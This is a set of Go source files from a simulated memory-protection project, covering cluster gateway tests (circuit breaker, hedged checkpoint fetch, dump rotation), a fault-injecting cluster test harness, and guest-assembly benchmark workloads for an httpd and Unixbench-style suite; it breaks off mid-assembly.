	// and the replica must go quiet before it half-opens.
	time.Sleep(50 * time.Millisecond)
	br.noteFailure()
	time.Sleep(50 * time.Millisecond)
	if br.allow() {
		t.Fatal("refreshed trip half-opened on the original clock")
	}

	// Cooldown path out of open: allow() lazily moves open to half-open and
	// admits the one trial; a failure during the trial re-opens immediately.
	time.Sleep(350 * time.Millisecond)
	if !br.allow() {
		t.Fatal("cooldown elapsed but the breaker stayed open")
	}
	if got := br.current(); got != breakerHalfOpen {
		t.Fatalf("after cooldown: state %v, want half-open", got)
	}
	br.noteFailure()
	if got := br.current(); got != breakerOpen {
		t.Fatalf("half-open failure: state %v, want open", got)
	}

	// Probe path out of open: one good probe is host evidence, not data-path
	// evidence — half-open first, and only the second signal re-closes.
	br.noteProbeSuccess()
	if got := br.current(); got != breakerHalfOpen {
		t.Fatalf("probe success from open: state %v, want half-open", got)
	}
	br.noteProbeSuccess()
	if got := br.current(); got != breakerClosed {
		t.Fatalf("second probe success: state %v, want closed", got)
	}

	// A relay success re-closes from ANY state: the data path itself worked.
	br.noteFailure()
	br.noteFailure()
	br.noteFailure()
	br.noteSuccess()
	if got := br.current(); got != breakerClosed {
		t.Fatalf("relay success from open: state %v, want closed", got)
	}

	want := []string{
		"closed->open", "open->half-open", "half-open->open",
		"open->half-open", "half-open->closed",
		"closed->open", "open->closed",
	}
	if len(transitions) != len(want) {
		t.Fatalf("transitions %v, want %v", transitions, want)
	}
	for i := range want {
		if transitions[i] != want[i] {
			t.Fatalf("transition %d: %s, want %s (all: %v)", i, transitions[i], want[i], transitions)
		}
	}
}

// TestFlightRecorderRotation pins the disk cap: rotation prunes oldest-first
// past the count cap and the byte cap, and never deletes the newest dump
// even when it alone exceeds the caps.
func TestFlightRecorderRotation(t *testing.T) {
	dir := t.TempDir()
	mkdump := func(i, size int) string {
		name := fmt.Sprintf("flight-20260101T0000%02d.000-%04d-test.json", i, i)
		if err := os.WriteFile(filepath.Join(dir, name), make([]byte, size), 0o644); err != nil {
			t.Fatal(err)
		}
		return name
	}
	surviving := func() []string {
		ents, err := os.ReadDir(dir)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, e := range ents {
			out = append(out, e.Name())
		}
		return out
	}

	// Count cap: six dumps, cap three — the three oldest go.
	fr := newFlightRecorder(dir, 16, 3, 1<<20)
	var names []string
	for i := 0; i < 6; i++ {
		names = append(names, mkdump(i, 100))
	}
	// A non-dump file must never be touched by rotation.
	if err := os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("keep"), 0o644); err != nil {
		t.Fatal(err)
	}
	fr.rotate()
	got := surviving()
	if len(got) != 4 { // three newest dumps + notes.txt
		t.Fatalf("after count rotation: %v", got)
	}
	for _, want := range append(names[3:], "notes.txt") {
		found := false
		for _, g := range got {
			if g == want {
				found = true
			}
		}
		if !found {
			t.Fatalf("rotation deleted %s; surviving: %v", want, got)
		}
	}

	// Byte cap: total 3x400 bytes against a 900-byte cap — the oldest goes
	// even though the count cap (3) is satisfied.
	fr = newFlightRecorder(dir, 16, 16, 900)
	for _, n := range names[3:] {
		if err := os.WriteFile(filepath.Join(dir, n), make([]byte, 400), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	fr.rotate()
	if got := surviving(); len(got) != 3 { // two newest dumps + notes.txt
		t.Fatalf("after byte rotation: %v", got)
	}

	// The newest dump survives even when it alone busts both caps.
	fr = newFlightRecorder(dir, 16, 1, 10)
	fr.rotate()
	got = surviving()
	if len(got) != 2 {
		t.Fatalf("after final rotation: %v", got)
	}
	for _, g := range got {
		if g != names[5] && g != "notes.txt" {
			t.Fatalf("newest dump did not survive: %v", got)
		}
	}
}

// TestJitterSpread asserts the anti-stampede property every backoff site
// relies on: Scale(d) draws uniformly from [d/2, d) with real spread (not a
// constant, not a couple of values), deterministically per seed, and two
// seeds disagree on the phase.
func TestJitterSpread(t *testing.T) {
	const d = 100 * time.Millisecond
	j := chaos.NewJitter(7)
	distinct := map[time.Duration]bool{}
	for i := 0; i < 1000; i++ {
		got := j.Scale(d)
		if got < d/2 || got >= d {
			t.Fatalf("draw %d: %v outside [%v, %v)", i, got, d/2, d)
		}
		distinct[got] = true
	}
	if len(distinct) < 900 {
		t.Fatalf("1000 draws produced only %d distinct delays — not enough spread to break retry lockstep", len(distinct))
	}

	// Same seed, same schedule; different seed, different phase.
	a, b, c := chaos.NewJitter(7), chaos.NewJitter(7), chaos.NewJitter(8)
	same, diff := true, false
	for i := 0; i < 64; i++ {
		x := a.Scale(d)
		if x != b.Scale(d) {
			same = false
		}
		if x != c.Scale(d) {
			diff = true
		}
	}
	if !same {
		t.Fatal("equal seeds diverged")
	}
	if !diff {
		t.Fatal("different seeds drew an identical 64-draw schedule")
	}

	// Nil source and degenerate delays pass through untouched.
	var nilJ *chaos.Jitter
	if got := nilJ.Scale(d); got != d {
		t.Fatalf("nil jitter scaled %v to %v", d, got)
	}
	if got := j.Scale(0); got != 0 {
		t.Fatalf("zero delay scaled to %v", got)
	}
}

// hedgeSnapshot builds a small valid machine image for checkpoint-transport
// tests (the CRC gate verifies it like a real checkpoint).
func hedgeSnapshot(t *testing.T) []byte {
	t.Helper()
	m, err := splitmem.New(splitmem.Config{Protection: splitmem.ProtSplit, PhysBytes: 4 << 20})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.LoadAsm(longSpin, "hedge-fixture"); err != nil {
		t.Fatal(err)
	}
	m.Run(10_000)
	img, err := m.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// exportHandler serves one upstream job's checkpoint export.
func exportHandler(id uint64, body []byte, img []byte, delay time.Duration) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if delay > 0 {
			select {
			case <-time.After(delay):
			case <-r.Context().Done():
				return
			}
		}
		json.NewEncoder(w).Encode(&serve.CheckpointExport{
			ID: id, Job: json.RawMessage(body), Checkpoint: img, Cycles: 10_000,
		})
	}
}

// hedgeGateway hand-builds the minimal Gateway the fetch path touches: no
// prober, no tracing, no flight recorder — just the client, the timeouts,
// and the hedge counters under test.
func hedgeGateway() *Gateway {
	return &Gateway{
		cfg:    Config{ProbeTimeout: 10 * time.Second, HedgeDelay: 5 * time.Millisecond},
		client: http.DefaultClient,
	}
}

// TestHedgedFetchPrevHopWins pins the hedge: when the current owner's
// export endpoint is wedged (slow-loris, crash, partition), the previous
// hop's ring answers after one HedgeDelay and its CRC-valid checkpoint
// wins — no timeout-and-retry ladder.
func TestHedgedFetchPrevHopWins(t *testing.T) {
	body := []byte(`{"name": "hedge-job", "source": "x"}`)
	img := hedgeSnapshot(t)

	primary := httptest.NewServer(exportHandler(5, body, img, 3*time.Second))
	defer primary.Close()
	prev := httptest.NewServer(exportHandler(7, body, img, 0))
	defer prev.Close()

	g := hedgeGateway()
	repPrimary := &Replica{URL: primary.URL, Label: "r0"}
	repPrev := &Replica{URL: prev.URL, Label: "r1"}

	j := &gwJob{id: 1, name: "hedge-job", body: body}
	j.setOwner(repPrev, 7)
	j.clearOwner() // archives r1/7 as the previous hop
	j.setOwner(repPrimary, 5)

	start := time.Now()
	spec := g.fetchCheckpoint(repPrimary, j)
	elapsed := time.Since(start)
	if spec == nil || len(spec.checkpoint) == 0 {
		t.Fatal("hedged fetch returned no checkpoint")
	}
	if err := splitmem.VerifySnapshot(spec.checkpoint); err != nil {
		t.Fatalf("winning checkpoint fails the CRC gate: %v", err)
	}
	if elapsed >= 3*time.Second {
		t.Fatalf("hedge waited out the wedged primary: %v", elapsed)
	}
	if got := g.hedgedFetches.Load(); got != 1 {
		t.Fatalf("hedgedFetches=%d, want 1", got)
	}
	if wins, losses := g.hedgeWins.Load(), g.hedgeLosses.Load(); wins != 1 || losses != 0 {
		t.Fatalf("hedgeWins=%d hedgeLosses=%d, want 1/0", wins, losses)
	}
}

// TestHedgedFetchPrimaryWins is the quiet-cluster complement: a healthy
// primary answers inside the hedge delay and the secondary arm never
// produces the winner.
func TestHedgedFetchPrimaryWins(t *testing.T) {
	body := []byte(`{"name": "hedge-job", "source": "x"}`)
	img := hedgeSnapshot(t)

	primary := httptest.NewServer(exportHandler(5, body, img, 0))
	defer primary.Close()
	prev := httptest.NewServer(exportHandler(7, body, img, 3*time.Second))
	defer prev.Close()

	g := hedgeGateway()
	repPrimary := &Replica{URL: primary.URL, Label: "r0"}
	repPrev := &Replica{URL: prev.URL, Label: "r1"}

	j := &gwJob{id: 1, name: "hedge-job", body: body}
	j.setOwner(repPrev, 7)
	j.clearOwner()
	j.setOwner(repPrimary, 5)

	spec := g.fetchCheckpoint(repPrimary, j)
	if spec == nil || len(spec.checkpoint) == 0 {
		t.Fatal("hedged fetch returned no checkpoint")
	}
	if wins := g.hedgeWins.Load(); wins != 0 {
		t.Fatalf("healthy primary lost the hedge (wins=%d)", wins)
	}
	if losses := g.hedgeLosses.Load(); losses != 1 {
		t.Fatalf("hedgeLosses=%d, want 1", losses)
	}
}

// TestStaleExportRejected pins the job-identity gate: upstream IDs restart
// from 1 when a replica restarts, so a remembered ID can resolve to a
// DIFFERENT job's perfectly CRC-valid checkpoint. The gate must reject it
// on the exported submission body and fall back to a scratch resume —
// resuming the wrong program would silently replace the job's execution.
func TestStaleExportRejected(t *testing.T) {
	img := hedgeSnapshot(t)
	stranger := []byte(`{"name": "somebody-else", "source": "y"}`)

	srv := httptest.NewServer(exportHandler(5, stranger, img, 0))
	defer srv.Close()

	g := hedgeGateway()
	rep := &Replica{URL: srv.URL, Label: "r0"}
	j := &gwJob{id: 1, name: "victim", body: []byte(`{"name": "victim", "source": "x"}`), trace: "t1"}
	j.setOwner(rep, 5)

	spec := g.fetchCheckpoint(rep, j)
	if spec == nil {
		t.Fatal("single-arm fetch returned nil")
	}
	if len(spec.checkpoint) != 0 {
		t.Fatal("identity gate let a stale export through: got another job's checkpoint")
	}
	if got := g.staleExport.Load(); got != 1 {
		t.Fatalf("staleExport=%d, want 1", got)
	}

	// Whitespace-only re-encoding of the SAME body must still match: the
	// gate compares compacted JSON, not raw bytes.
	spaced := []byte("{\n  \"name\": \"victim\",\n  \"source\": \"x\"\n}")
	srv2 := httptest.NewServer(exportHandler(5, spaced, img, 0))
	defer srv2.Close()
	rep2 := &Replica{URL: srv2.URL, Label: "r1"}
	j.setOwner(rep2, 5)
	spec = g.fetchCheckpoint(rep2, j)
	if spec == nil || len(spec.checkpoint) == 0 {
		t.Fatal("identity gate rejected the job's own re-encoded body")
	}
	if got := g.staleExport.Load(); got != 1 {
		t.Fatalf("staleExport=%d after matching fetch, want still 1", got)
	}
}
