package cluster

import (
	"encoding/json"
	"net/http"

	"splitmem/internal/serve"
)

// clientStream is the gateway's single writer to the client. In stream
// mode it relays NDJSON frames as they arrive (accepted, raw event lines,
// one result); in sync mode it swallows events and answers with the final
// result object, mirroring a single replica's synchronous response.
type clientStream struct {
	w      http.ResponseWriter
	flush  http.Flusher
	stream bool

	started   bool
	gotResult bool
	final     *serve.JobResult // sync mode: held until finish
}

func newClientStream(w http.ResponseWriter, stream bool) *clientStream {
	cs := &clientStream{w: w, stream: stream}
	if f, ok := w.(http.Flusher); ok {
		cs.flush = f
	}
	return cs
}

// reject answers a job that was never acknowledged. No-op once anything
// has been written.
func (cs *clientStream) reject(status int, kind, msg string) {
	if cs.started {
		return
	}
	cs.started = true
	cs.gotResult = true
	httpError(cs.w, status, kind, msg)
}

// forwardError relays a replica's own rejection body (e.g. a 400 for a
// bad job) verbatim.
func (cs *clientStream) forwardError(status int, body []byte) {
	if cs.started {
		return
	}
	cs.started = true
	cs.gotResult = true
	cs.w.Header().Set("Content-Type", "application/json")
	cs.w.WriteHeader(status)
	cs.w.Write(body)
}

func (cs *clientStream) line(v any) {
	b, err := json.Marshal(v)
	if err != nil {
		return
	}
	cs.w.Write(b)
	cs.w.Write([]byte{'\n'})
	if cs.flush != nil {
		cs.flush.Flush()
	}
}

// accepted sends the acknowledgment exactly once (stream mode).
func (cs *clientStream) accepted(id uint64, name string) {
	if !cs.stream {
		cs.started = true
		return
	}
	if !cs.started {
		cs.w.Header().Set("Content-Type", "application/x-ndjson")
		cs.w.Header().Set("Cache-Control", "no-store")
		cs.started = true
	}
	msg := map[string]any{"type": "accepted", "id": id}
	if name != "" {
		msg["name"] = name
	}
	cs.line(msg)
}

// event relays one raw event frame from the replica, byte for byte.
func (cs *clientStream) event(raw []byte) {
	if !cs.stream {
		return
	}
	cs.w.Write(raw)
	cs.w.Write([]byte{'\n'})
	if cs.flush != nil {
		cs.flush.Flush()
	}
}

// result delivers the terminal frame. Exactly one wins; later calls are
// dropped, upholding the framing contract whatever the relay loop does.
func (cs *clientStream) result(res *serve.JobResult) {
	if cs.gotResult {
		return
	}
	cs.gotResult = true
	if cs.stream {
		cs.line(map[string]any{"type": "result", "result": res})
		return
	}
	cs.final = res
}

// finish flushes the sync-mode response.
func (cs *clientStream) finish() {
	if cs.stream || cs.final == nil {
		return
	}
	cs.w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(cs.w).Encode(cs.final)
}
