package cluster

// The in-process cluster harness: N replica slots behind stable URLs, a
// gateway over them, and fault controls (drain, kill, restart). It exists
// so the same machinery drives the -race integration tests, the
// splitmem-gateway -selftest smoke, and the cluster benchmark row —
// everything through the public HTTP surface, nothing reaching into
// internals.

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync"
	"time"

	"splitmem/internal/serve"
)

// Node is one replica slot: a stable httptest front whose URL never
// changes, delegating to a swappable serve.Server — so a "process
// restart" (new Server, new instance ID, same URL) and a "crash" (no
// server; connections die) are both one pointer swap, exactly the view a
// gateway has of a real host.
type Node struct {
	cfg   serve.Config
	front *httptest.Server

	mu  sync.Mutex
	srv *serve.Server // nil while killed
}

// newNode boots a replica slot with a live server.
func newNode(cfg serve.Config) (*Node, error) {
	n := &Node{cfg: cfg}
	srv, err := serve.New(cfg)
	if err != nil {
		return nil, err
	}
	n.srv = srv
	n.front = httptest.NewServer(http.HandlerFunc(n.serveHTTP))
	return n, nil
}

func (n *Node) serveHTTP(w http.ResponseWriter, r *http.Request) {
	n.mu.Lock()
	srv := n.srv
	n.mu.Unlock()
	if srv == nil {
		// Killed: behave like a dead host, not a polite 5xx — hijack the
		// connection and slam it shut so clients see a transport error.
		if hj, ok := w.(http.Hijacker); ok {
			if conn, _, err := hj.Hijack(); err == nil {
				conn.Close()
				return
			}
		}
		panic(http.ErrAbortHandler)
	}
	srv.Handler().ServeHTTP(w, r)
}

// URL returns the node's stable base URL.
func (n *Node) URL() string { return n.front.URL }

// Server returns the node's current serve.Server (nil while killed).
func (n *Node) Server() *serve.Server {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.srv
}

// Drain begins a graceful drain of the current server (SIGTERM
// equivalent): admission stops, /healthz reports draining, and the
// gateway migrates its jobs away.
func (n *Node) Drain() {
	if srv := n.Server(); srv != nil {
		srv.BeginDrain()
	}
}

// Kill crashes the node: the server vanishes mid-flight, every open
// connection (including job relays) breaks, and new connections die. The
// old server's jobs are canceled in the background.
func (n *Node) Kill() {
	n.mu.Lock()
	old := n.srv
	n.srv = nil
	n.mu.Unlock()
	n.front.CloseClientConnections()
	if old != nil {
		go func() {
			old.CancelRunning()
			old.Close()
		}()
	}
}

// Restart boots a fresh server (new instance ID, same URL) into the slot,
// replacing whatever is there. A replaced live server is shut down in the
// background.
func (n *Node) Restart() error {
	srv, err := serve.New(n.cfg)
	if err != nil {
		return err
	}
	n.mu.Lock()
	old := n.srv
	n.srv = srv
	n.mu.Unlock()
	if old != nil {
		go func() {
			old.CancelRunning()
			old.Close()
		}()
	}
	return nil
}

// close tears the slot down.
func (n *Node) close() {
	n.mu.Lock()
	old := n.srv
	n.srv = nil
	n.mu.Unlock()
	n.front.Close()
	if old != nil {
		old.CancelRunning()
		old.Close()
	}
}

// Harness is an in-process cluster: nodes, gateway, and the gateway's own
// HTTP front.
type Harness struct {
	Nodes   []*Node
	Gateway *Gateway
	front   *httptest.Server
}

// NewHarness boots n replicas and a gateway over them. gcfg.Replicas is
// filled in by the harness.
func NewHarness(n int, rcfg serve.Config, gcfg Config) (*Harness, error) {
	return NewHarnessFunc(n, func(int) serve.Config { return rcfg }, gcfg)
}

// NewHarnessFunc is NewHarness with a per-node config: node i gets
// rcfg(i). The chaos campaign uses it to give every replica its own
// journal path while sharing one disk-fault injector.
func NewHarnessFunc(n int, rcfg func(i int) serve.Config, gcfg Config) (*Harness, error) {
	if n <= 0 {
		return nil, fmt.Errorf("cluster: need at least one node")
	}
	h := &Harness{}
	for i := 0; i < n; i++ {
		node, err := newNode(rcfg(i))
		if err != nil {
			h.Close()
			return nil, err
		}
		h.Nodes = append(h.Nodes, node)
		gcfg.Replicas = append(gcfg.Replicas, node.URL())
	}
	gw, err := New(gcfg)
	if err != nil {
		h.Close()
		return nil, err
	}
	h.Gateway = gw
	h.front = httptest.NewServer(gw.Handler())
	return h, nil
}

// URL returns the gateway's base URL — the address load generators hit.
func (h *Harness) URL() string { return h.front.URL }

// Close tears the whole cluster down.
func (h *Harness) Close() {
	if h.front != nil {
		h.front.Close()
	}
	if h.Gateway != nil {
		h.Gateway.Close()
	}
	for _, n := range h.Nodes {
		n.close()
	}
}

// AwaitState polls until the gateway sees replica i in the wanted state
// (or the deadline passes; the caller checks the return).
func (h *Harness) AwaitState(i int, want State, timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		if h.Gateway.Replicas()[i].State() == want {
			return true
		}
		time.Sleep(5 * time.Millisecond)
	}
	return h.Gateway.Replicas()[i].State() == want
}

// AwaitQuiet polls until replica i's current server has no live gateway
// jobs (migration off it is complete).
func (h *Harness) AwaitQuiet(i int, timeout time.Duration) bool {
	deadline := time.Now().Add(timeout)
	rep := h.Gateway.Replicas()[i]
	for time.Now().Before(deadline) {
		if len(h.Gateway.jobsOn(rep)) == 0 {
			return true
		}
		time.Sleep(5 * time.Millisecond)
	}
	return len(h.Gateway.jobsOn(rep)) == 0
}

// RollingRestart restarts every node once, gracefully: drain, wait for
// the gateway to migrate the node's jobs away, kill, boot a fresh server,
// wait for the gateway to re-admit it. An explicit order restarts that
// sequence of node indexes instead of 0..n-1. Returns an error naming the
// node and phase that got stuck.
func (h *Harness) RollingRestart(perNode time.Duration, order ...int) error {
	if len(order) == 0 {
		order = make([]int, len(h.Nodes))
		for i := range order {
			order[i] = i
		}
	}
	for _, i := range order {
		node := h.Nodes[i]
		node.Drain()
		if !h.AwaitState(i, StateDraining, perNode) {
			return fmt.Errorf("node %d: gateway never saw the drain", i)
		}
		if !h.AwaitQuiet(i, perNode) {
			return fmt.Errorf("node %d: jobs still on it after drain migration", i)
		}
		node.Kill()
		if err := node.Restart(); err != nil {
			return fmt.Errorf("node %d: restart: %w", i, err)
		}
		if !h.AwaitState(i, StateUp, perNode) {
			return fmt.Errorf("node %d: gateway never re-admitted the restarted server", i)
		}
	}
	return nil
}
