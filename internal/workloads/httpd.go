package workloads

import (
	"fmt"

	"splitmem"
	"splitmem/internal/guest"
)

// The ApacheBench experiment (§6.2, Figs. 6-8): a pre-fork style web server
// with a dispatcher and four workers connected by pipes (the accepted-
// socket handoff of a real pre-fork server). Each request costs two context
// switches — dispatcher to worker and back — so small responses are
// dominated by TLB-flush-induced re-splitting while large responses are
// dominated by response generation and NIC time, reproducing the paper's
// page-size behavior.
const httpdSrc = `
_start:
    ; config line: "<size> <requests>"
    mov eax, 32
    push eax
    mov eax, linebuf
    push eax
    mov eax, 0
    push eax
    call read_line
    add esp, 12
    mov eax, linebuf
    push eax
    call atoi
    add esp, 4
    mov ecx, g_size
    store [ecx], eax
    ; skip to the space, parse request count
    mov ecx, linebuf
find_sp:
    loadb eax, [ecx]
    cmp eax, ' '
    jz found_sp
    inc ecx
    jmp find_sp
found_sp:
    inc ecx
    push ecx
    call atoi
    add esp, 4
    mov ecx, g_reqs
    store [ecx], eax

    ; create 4 request pipes and 4 ack pipes
    mov edi, 0
mkpipes:
    cmp edi, 4
    jge dofork
    mov eax, edi
    shl eax, 3
    mov ebx, req_fds
    add ebx, eax
    mov eax, SYS_PIPE
    int 0x80
    mov eax, edi
    shl eax, 3
    mov ebx, ack_fds
    add ebx, eax
    mov eax, SYS_PIPE
    int 0x80
    inc edi
    jmp mkpipes

dofork:
    mov edi, 0
forkloop:
    cmp edi, 4
    jge parent
    mov eax, SYS_FORK
    int 0x80
    cmp eax, 0
    jz child
    inc edi
    jmp forkloop

; ---------------- worker (edi = index) ----------------
child:
    ; allocate the response buffer: base = brk(0); brk(base+size)
    mov ebx, 0
    mov eax, SYS_BRK
    int 0x80
    mov esi, eax           ; esi = response buffer
    mov ebx, eax
    mov ecx, g_size
    load ecx, [ecx]
    add ebx, ecx
    add ebx, 4096
    mov eax, SYS_BRK
    int 0x80
child_loop:
    ; read(req_fds[i].r, tok, 4)
    mov eax, edi
    shl eax, 3
    mov ecx, req_fds
    add ecx, eax
    load ebx, [ecx]
    mov ecx, tokbuf
    mov edx, 4
    mov eax, SYS_READ
    int 0x80
    cmp eax, 4
    jnz child_exit
    mov ecx, tokbuf
    loadb eax, [ecx]
    cmp eax, 'Q'
    jz child_exit
    ; generate the response: touch every 32nd byte (header/copy work)
    mov ecx, g_size
    load ecx, [ecx]
    mov edx, esi
gen:
    cmp ecx, 0
    jle gen_done
    storeb [edx], ecx
    add edx, 32
    sub ecx, 32
    jmp gen
gen_done:
    ; write(1, buf, size) - the NIC transfer
    mov ebx, 1
    mov ecx, esi
    mov edx, g_size
    load edx, [edx]
    mov eax, SYS_WRITE
    int 0x80
    ; ack the dispatcher
    mov eax, edi
    shl eax, 3
    mov ecx, ack_fds
    add ecx, eax
    load ebx, [ecx+4]
    mov ecx, tokbuf
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    jmp child_loop
child_exit:
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

; ---------------- dispatcher ----------------
parent:
    mov esi, 0             ; request counter
parent_loop:
    mov eax, g_reqs
    load eax, [eax]
    cmp esi, eax
    jge shutdown
    ; hand the "connection" to worker (r mod 4)
    mov eax, esi
    and eax, 3
    shl eax, 3
    mov ecx, req_fds
    add ecx, eax
    load ebx, [ecx+4]
    mov ecx, tok_go
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    ; wait for completion
    mov eax, esi
    and eax, 3
    shl eax, 3
    mov ecx, ack_fds
    add ecx, eax
    load ebx, [ecx]
    mov ecx, tokbuf2
    mov edx, 4
    mov eax, SYS_READ
    int 0x80
    inc esi
    jmp parent_loop

shutdown:
    mov edi, 0
killloop:
    cmp edi, 4
    jge reap
    mov eax, edi
    shl eax, 3
    mov ecx, req_fds
    add ecx, eax
    load ebx, [ecx+4]
    mov ecx, tok_quit
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    inc edi
    jmp killloop
reap:
    mov edi, 0
reaploop:
    cmp edi, 4
    jge done
    mov ebx, -1
    mov ecx, 0
    mov eax, SYS_WAITPID
    int 0x80
    inc edi
    jmp reaploop
done:
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80

.data
linebuf:  .space 32
tokbuf:   .space 8
tokbuf2:  .space 8
tok_go:   .ascii "GO!!"
tok_quit: .ascii "QUIT"
g_size:   .word 0
g_reqs:   .word 0
.align 8
req_fds:  .space 32
ack_fds:  .space 32
`

// RunHTTPD serves `requests` responses of `size` bytes through the 4-worker
// server and reports requests as the work unit.
func RunHTTPD(cfg splitmem.Config, size, requests int) (Metrics, error) {
	if size <= 0 || requests <= 0 {
		return Metrics{}, fmt.Errorf("workloads: httpd needs positive size and requests")
	}
	input := fmt.Sprintf("%d %d\n", size, requests)
	return runProgram(cfg, guest.WithCRT(httpdSrc), "wl-httpd", input, float64(requests))
}
