package workloads

import (
	"testing"

	"splitmem"
	"splitmem/internal/guest"
)

func base() splitmem.Config { return splitmem.Config{Protection: splitmem.ProtNone} }
func split() splitmem.Config {
	return splitmem.Config{Protection: splitmem.ProtSplit}
}

func TestHTTPDServes(t *testing.T) {
	m, err := RunHTTPD(base(), 1024, 20)
	if err != nil {
		t.Fatal(err)
	}
	if m.Cycles == 0 || m.Work != 20 {
		t.Fatalf("metrics: %+v", m)
	}
}

func TestHTTPDSplitSlower(t *testing.T) {
	b, err := RunHTTPD(base(), 4096, 20)
	if err != nil {
		t.Fatal(err)
	}
	p, err := RunHTTPD(split(), 4096, 20)
	if err != nil {
		t.Fatal(err)
	}
	r := Normalized(b, p)
	if r >= 1 || r < 0.1 {
		t.Fatalf("httpd normalized %f out of plausible range", r)
	}
}

func TestGzip(t *testing.T) {
	b, err := RunGzip(base())
	if err != nil {
		t.Fatal(err)
	}
	p, err := RunGzip(split())
	if err != nil {
		t.Fatal(err)
	}
	r := Normalized(b, p)
	t.Logf("gzip normalized: %.3f", r)
	if r >= 1 || r < 0.5 {
		t.Fatalf("gzip normalized %f out of plausible range", r)
	}
}

func TestNbench(t *testing.T) {
	b, err := RunNbench(base())
	if err != nil {
		t.Fatal(err)
	}
	p, err := RunNbench(split())
	if err != nil {
		t.Fatal(err)
	}
	r := Normalized(b, p)
	t.Logf("nbench normalized: %.3f", r)
	if r >= 1.001 || r < 0.85 {
		t.Fatalf("nbench normalized %f should be close to 1", r)
	}
}

func TestPipeCtxsw(t *testing.T) {
	b, err := RunPipeCtxsw(base(), 200)
	if err != nil {
		t.Fatal(err)
	}
	p, err := RunPipeCtxsw(split(), 200)
	if err != nil {
		t.Fatal(err)
	}
	r := Normalized(b, p)
	t.Logf("pipe-ctxsw normalized: %.3f", r)
	if r > 0.75 {
		t.Fatalf("pipe ctxsw should be the worst case, got %f", r)
	}
	if r < 0.1 {
		t.Fatalf("pipe ctxsw %f implausibly slow", r)
	}
}

func TestUnixbenchSuite(t *testing.T) {
	score, ratios, err := UnixbenchScore(base(), split())
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("unixbench score: %.3f ratios: %v", score, ratios)
	if score >= 1 || score < 0.3 {
		t.Fatalf("unixbench score %f out of plausible range", score)
	}
}

func TestPipeCtxswWS(t *testing.T) {
	b, err := RunPipeCtxswWS(base(), 60)
	if err != nil {
		t.Fatal(err)
	}
	p, err := RunPipeCtxswWS(split(), 60)
	if err != nil {
		t.Fatal(err)
	}
	r := Normalized(b, p)
	t.Logf("pipe-ctxsw-ws normalized: %.3f", r)
	if r >= 1 {
		t.Fatal("working-set variant must show overhead")
	}
}

func TestComputeConsistency(t *testing.T) {
	if err := ValidateComputeConsistency([]splitmem.Protection{
		splitmem.ProtNone, splitmem.ProtNX, splitmem.ProtSplit,
	}); err != nil {
		t.Fatal(err)
	}
}

// TestHTTPDResponseBytes: every request produces exactly `size` bytes on
// the worker's socket, under both memory architectures.
func TestHTTPDResponseBytes(t *testing.T) {
	for _, cfg := range []splitmem.Config{base(), split()} {
		m, err := splitmem.New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		p, err := m.LoadAsm(guest.WithCRT(httpdSrc), "httpd")
		if err != nil {
			t.Fatal(err)
		}
		p.StdinWrite([]byte("512 8\n"))
		p.StdinClose()
		res := m.Run(0)
		if res.Reason != splitmem.ReasonAllDone {
			t.Fatalf("%v", res.Reason)
		}
		total := 0
		for pid := 2; pid <= 5; pid++ {
			if w, ok := m.Kernel().Process(pid); ok {
				total += len(w.StdoutDrain())
			}
		}
		if total != 8*512 {
			t.Fatalf("served %d bytes, want %d", total, 8*512)
		}
	}
}
