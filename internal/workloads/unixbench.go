package workloads

import (
	"fmt"
	"math"

	"splitmem"
)

// The Unixbench-style microbenchmark suite (§6.2, Figs. 6-7, 9).

// syscall overhead: a tight getpid loop.
const syscallSrc = `
.equ SYS_EXIT, 1
.equ SYS_GETPID, 20
_start:
    mov ecx, 20000
sloop:
    mov eax, SYS_GETPID
    int 0x80
    dec ecx
    cmp ecx, 0
    jnz sloop
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80
`

// pipe throughput: one process writes and reads 512-byte blocks through its
// own pipe (no context switching).
const pipeTputSrc = `
.equ SYS_EXIT, 1
.equ SYS_READ, 3
.equ SYS_WRITE, 4
.equ SYS_PIPE, 42
_start:
    mov ebx, fds
    mov eax, SYS_PIPE
    int 0x80
    mov ecx, 2000
ploop:
    push ecx
    mov esi, fds
    load ebx, [esi+4]
    mov ecx, buf
    mov edx, 512
    mov eax, SYS_WRITE
    int 0x80
    mov esi, fds
    load ebx, [esi]
    mov ecx, buf
    mov edx, 512
    mov eax, SYS_READ
    int 0x80
    pop ecx
    dec ecx
    cmp ecx, 0
    jnz ploop
    mov ebx, 0
    mov eax, SYS_EXIT
    int 0x80
.data
fds: .word 0, 0
buf: .space 512
`

// pipe-based context switching: two processes ping-pong a 4-byte token —
// the paper's designated worst case ("Unixbench pipe ctxsw", Fig. 7). Kept
// deliberately tight (one code page, one data page) so the cost is pure
// switch-and-resplit.
const pipeCtxswSrc = `
.equ SYS_EXIT, 1
.equ SYS_FORK, 2
.equ SYS_READ, 3
.equ SYS_WRITE, 4
.equ SYS_WAITPID, 7
.equ SYS_PIPE, 42
_start:
    mov ebx, ab            ; parent -> child pipe
    mov eax, SYS_PIPE
    int 0x80
    mov ebx, ba            ; child -> parent pipe
    mov eax, SYS_PIPE
    int 0x80
    mov eax, SYS_FORK
    int 0x80
    cmp eax, 0
    jz child

    mov ecx, ITERS
parent_loop:
    push ecx
    mov esi, ab
    load ebx, [esi+4]
    mov ecx, tok
    mov edx, 4
    mov eax, SYS_WRITE
    int 0x80
    mov esi, ba
    load ebx, [esi]
    mov ecx, tok
    mov edx, 4
    mov eax, SYS_READ
    int 0x80
    pop ecx
    dec ecx
    cmp ecx, 0
    jnz parent_loop
    ; tell the child to stop, then reap it
    mov esi, ab
    load ebx, [esi+4]
